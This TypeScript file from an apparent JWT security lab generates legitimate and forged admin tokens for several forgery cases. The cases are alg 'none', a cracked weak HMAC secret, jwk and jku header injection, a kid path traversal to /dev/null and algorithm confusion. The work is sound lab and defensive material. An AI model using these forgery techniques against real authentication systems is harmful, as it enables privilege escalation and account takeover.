import { exportJWK, generateKeyPair } from 'jose';
import { ACCESS_TOKEN_AUDIENCE, ACCESS_TOKEN_ISSUER } from '@/lib/jwt/access-token';

/** The app's access-token `typ` (RFC 9068), copied so the forged token looks like a real one. */
const APP_ACCESS_TOKEN_TYPE = 'at+jwt';
import {
  issueAlgNoneToken,
  issueJkuInjectionToken,
  issueJwkInjectionToken,
  issueKidInjectionToken,
  issueSensitivePayloadToken,
  issueUnverifiedClaimsToken,
  issueWeakHmacToken,
} from '../forgery/case-endpoints';
import { encodeSegment, makeAttackerKeyPair, reencodeKeepingSignature, signEs256, signHs256, utf8 } from '../forgery/compact-jws';
import { labClaimsFor } from '../forgery/lab-claims';
import { forgeryMaterial } from '../forgery/lab-material';
import { LAB_VICTIM, withAdminClaims } from '../forgery/lab-users';
import type { LabCredentialSample } from '../lab-credential-sample';

/**
 * Every token the token-forgery cases (3-9, 16) issue or forge, made in-process as the pages make
 * them: each legitimate lab token and each forged admin token. Case 9's forged token copies the
 * app's own issuer, audience and `typ` on purpose: only the pinned algorithm stands in its way.
 */
export async function forgeryCredentialSamples(): Promise<LabCredentialSample[]> {
  const now = Date.now();
  const alice = labClaimsFor(LAB_VICTIM, now);
  const admin = withAdminClaims(alice);
  const attacker = await makeAttackerKeyPair();
  const appLikePublicJwks = JSON.stringify({
    keys: [{ ...(await exportJWK((await generateKeyPair('EdDSA', { crv: 'Ed25519' })).publicKey)), kid: 'k1', alg: 'EdDSA', use: 'sig' }],
  });
  const sample = (labCase: string, description: string, value: string): LabCredentialSample => ({ labCase, description, value });
  const legitimate = await issueUnverifiedClaimsToken(LAB_VICTIM, now);
  return [
    sample('unverified-claims', 'legitimate lab token (EdDSA, lab key)', legitimate),
    sample(
      'unverified-claims',
      'admin claims re-encoded under alice’s old signature',
      reencodeKeepingSignature({ alg: 'EdDSA', typ: 'JWT' }, admin, legitimate),
    ),
    sample('alg-none', 'legitimate lab token (EdDSA, lab key)', await issueAlgNoneToken(LAB_VICTIM, now)),
    sample('alg-none', 'unsigned admin token, alg none', `${encodeSegment({ alg: 'none', typ: 'JWT' })}.${encodeSegment(admin)}.`),
    sample('weak-hmac-secret', 'legitimate lab token (HS256, dictionary word)', await issueWeakHmacToken(LAB_VICTIM, now)),
    sample(
      'weak-hmac-secret',
      'admin token signed with the cracked word',
      await signHs256({ alg: 'HS256', typ: 'JWT' }, admin, utf8(forgeryMaterial().secretWord)),
    ),
    sample('jwk-injection', 'legitimate lab token with the lab key embedded as jwk', await issueJwkInjectionToken(LAB_VICTIM, now)),
    sample(
      'jwk-injection',
      'admin token signed by an attacker key embedded as jwk',
      await signEs256({ alg: 'ES256', typ: 'JWT', jwk: attacker.publicJwk }, admin, attacker.privateKey),
    ),
    sample(
      'jku-injection',
      'legitimate lab token with jku at the lab key set',
      await issueJkuInjectionToken(LAB_VICTIM, now, 'http://127.0.0.1:3000'),
    ),
    sample(
      'jku-injection',
      'admin token with jku at an attacker key set',
      await signEs256(
        { alg: 'ES256', typ: 'JWT', kid: 'attacker-key', jku: 'http://127.0.0.1:3000/api/lab/jku-injection/attacker-keys/x' },
        admin,
        attacker.privateKey,
      ),
    ),
    sample('kid-injection', 'legitimate lab token (HS256, key file named by kid)', await issueKidInjectionToken(LAB_VICTIM, now)),
    sample(
      'kid-injection',
      'admin token, kid ../../dev/null, empty HMAC key',
      await signHs256({ alg: 'HS256', typ: 'JWT', kid: '../../dev/null' }, admin, new Uint8Array(0)),
    ),
    sample(
      'algorithm-confusion',
      'admin token in the app’s own claims, HS256 keyed with a public JWKS text',
      await signHs256(
        { alg: 'HS256', typ: APP_ACCESS_TOKEN_TYPE, kid: 'k1' },
        { ...admin, iss: ACCESS_TOKEN_ISSUER, aud: ACCESS_TOKEN_AUDIENCE, jti: 'forged' },
        utf8(appLikePublicJwks),
      ),
    ),
    sample(
      'sensitive-payload',
      'legitimate lab token carrying the email and password hash',
      await issueSensitivePayloadToken({ id: 'usr_alice', username: 'alice', role: 'user' }, now),
    ),
  ];
}
